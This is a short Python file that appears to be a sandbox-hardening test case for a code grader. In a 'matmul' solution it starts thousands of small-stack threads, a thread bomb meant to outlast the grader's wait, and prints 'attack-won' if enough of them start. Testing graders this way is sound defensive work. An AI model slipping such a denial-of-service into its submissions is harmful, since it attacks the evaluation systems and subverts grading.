"""Starts as many threads as it can, with tiny stacks, so that stopping them all takes longer than the grader waits.

covers = ["fork bomb, thread bomb"]
task = "matmul"
verdict = ["ACCEPTED", "RUNTIME_ERROR", "TIME_LIMIT", "MEMORY_LIMIT"]
"""

import threading

threading.stack_size(1 << 15)
never = threading.Event()
started = 0
ENOUGH = 4000


def matmul(a, b):
    global started
    try:
        while started < ENOUGH:
            threading.Thread(target=never.wait, args=(20,), daemon=True).start()
            started += 1
    except (RuntimeError, MemoryError):
        pass
    if started >= 1000:
        print("attack-won: runs", started, "threads", flush=True)
    return a @ b
